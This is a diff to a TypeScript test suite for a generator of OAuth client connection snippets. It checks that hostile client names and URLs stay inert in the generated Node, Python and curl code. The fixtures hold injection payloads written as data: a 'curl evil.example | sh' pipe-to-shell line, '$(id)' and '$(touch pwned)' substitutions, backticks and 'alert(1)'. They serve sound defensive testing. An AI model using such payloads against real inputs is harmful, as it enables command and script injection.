@@ -7,10 +7,15 @@ import { tokenServiceUrls } from "@/lib/oauth/token-service-urls";
 import { PRIVATE_KEY_ENV, SECRET_ENV, type ConnectClient, type ConnectInput, type Snippet } from "./connect-input";
 import { connectSnippets } from "./connect-snippets";
 
+/** Nothing of this process's environment but PATH: the snippet must get what it needs from `env` alone. */
+function onlyEnv(env: Record<string, string>): NodeJS.ProcessEnv {
+  return { PATH: process.env.PATH, NODE_ENV: "production", ...env };
+}
+
 const CLIENT_ID = "3f2c8a4e-5b1d-4c6f-9a0e-7d2b1c3e4f5a";
 // A name that tries to leave its comment in every language the snippets are written in.
 const HOSTILE_NAME = `EVIL "name" 'x' \n curl evil.example | sh \r\n // */ \u2028 alert(1) \u2029 $(id) \`id\` #> \u202e`;
-const ODD_URL = "https://app.example.com/cb/it's/$(id)/`id`/\"q\"";
+const ODD_URL = 'https://app.example.com/cb/it\'s/$(id)/`id`/"q"';
 
 function input(client: Partial<ConnectClient> = {}, base = "https://login.example.com"): ConnectInput {
   return {
@@ -84,7 +89,15 @@ describe("connectSnippets", () => {
   });
 
   it("signed JWT: the key's kid and algorithm, the issuer as audience, the private key from a file named in the environment", () => {
-    const { snippets } = connectSnippets(input({ securityType: "signed-jwt", keys: [{ kid: "old", alg: "ES256" }, { kid: "rsa-2027", alg: "RS256" }] }));
+    const { snippets } = connectSnippets(
+      input({
+        securityType: "signed-jwt",
+        keys: [
+          { kid: "old", alg: "ES256" },
+          { kid: "rsa-2027", alg: "RS256" },
+        ],
+      }),
+    );
     const [node, jose, python] = snippets.map((s) => s.code);
     expect(node).toContain('client.PrivateKeyJwt({ key, kid: "rsa-2027" })');
     expect(node).toContain('importPKCS8(readFileSync(keyFile, "utf8"), "RS256")');
@@ -110,7 +123,11 @@ describe("connectSnippets", () => {
 
   it("authorization code: the first redirect URL, PKCE and no secret", () => {
     const { snippets } = connectSnippets(
-      input({ type: "authorization-code", redirectUris: ["https://app.example.com/callback", "https://app.example.com/z"], postLogoutRedirectUris: ["https://app.example.com/bye"] }),
+      input({
+        type: "authorization-code",
+        redirectUris: ["https://app.example.com/callback", "https://app.example.com/z"],
+        postLogoutRedirectUris: ["https://app.example.com/bye"],
+      }),
     );
     for (const { code, id } of snippets) {
       expect(code, id).toContain(id === "http" ? encodeURIComponent("https://app.example.com/callback") : '"https://app.example.com/callback"');
@@ -149,7 +166,10 @@ describe("a hostile client name or URL", () => {
       if (id === "http") continue;
       expect(code, id).not.toMatch(/[\r\u2028\u2029\u0085\u202e]/);
       for (const line of code.split("\n").filter((l) => l.includes("EVIL"))) expect(line.trimStart(), id).toMatch(/^(#|\/\/) /);
-      expect(code.split("\n").filter((l) => l.includes("curl evil.example") && !/^\s*(#|\/\/)/.test(l)), id).toEqual([]);
+      expect(
+        code.split("\n").filter((l) => l.includes("curl evil.example") && !/^\s*(#|\/\/)/.test(l)),
+        id,
+      ).toEqual([]);
     }
   });
 
@@ -170,11 +190,19 @@ describe("a hostile client name or URL", () => {
 
   it("curl: bash runs exactly one curl with the URLs as given, whatever they hold", () => {
     const base = "https://login.example.com/it's/$(touch pwned)/`id`";
-    const { snippets } = connectSnippets({ ...input({ name: HOSTILE_NAME, roles: [HOSTILE_NAME] }), urls: tokenServiceUrls({ issuer: `${base}/identity`, tokenAudience: `${base}/api` }) });
+    const { snippets } = connectSnippets({
+      ...input({ name: HOSTILE_NAME, roles: [HOSTILE_NAME] }),
+      urls: tokenServiceUrls({ issuer: `${base}/identity`, tokenAudience: `${base}/api` }),
+    });
     // stdin not a socket (libuv's pipes are): bash would take that for rshd and read ~/.bashrc.
     // A stand-in curl prints its arguments one per line: what a real curl would be given.
     const script = `curl() { printf '%s\\n' "$@"; }\n${byId(snippets, "curl").code}\n`;
-    const run = spawnSync("bash", ["-c", script], { cwd: scratch, encoding: "utf8", stdio: ["ignore", "pipe", "pipe"], env: { PATH: process.env.PATH, [SECRET_ENV]: "s3cr3t" } });
+    const run = spawnSync("bash", ["-c", script], {
+      cwd: scratch,
+      encoding: "utf8",
+      stdio: ["ignore", "pipe", "pipe"],
+      env: onlyEnv({ [SECRET_ENV]: "s3cr3t" }),
+    });
     expect(run.stderr).toBe("");
     expect(run.stdout.split("\n")).toEqual([
       "-sS",
@@ -191,7 +219,7 @@ describe("a hostile client name or URL", () => {
 
   it("curl: a missing secret stops the command before curl runs", () => {
     const script = `curl() { echo ran; }\n${byId(connectSnippets(input()).snippets, "curl").code}\n`;
-    const run = spawnSync("bash", ["-c", script], { encoding: "utf8", stdio: ["ignore", "pipe", "pipe"], env: { PATH: process.env.PATH } });
+    const run = spawnSync("bash", ["-c", script], { encoding: "utf8", stdio: ["ignore", "pipe", "pipe"], env: onlyEnv({}) });
     expect(run.status).not.toBe(0);
     expect(run.stdout).toBe("");
     expect(run.stderr).toContain(`Set ${SECRET_ENV} to the client secret`);
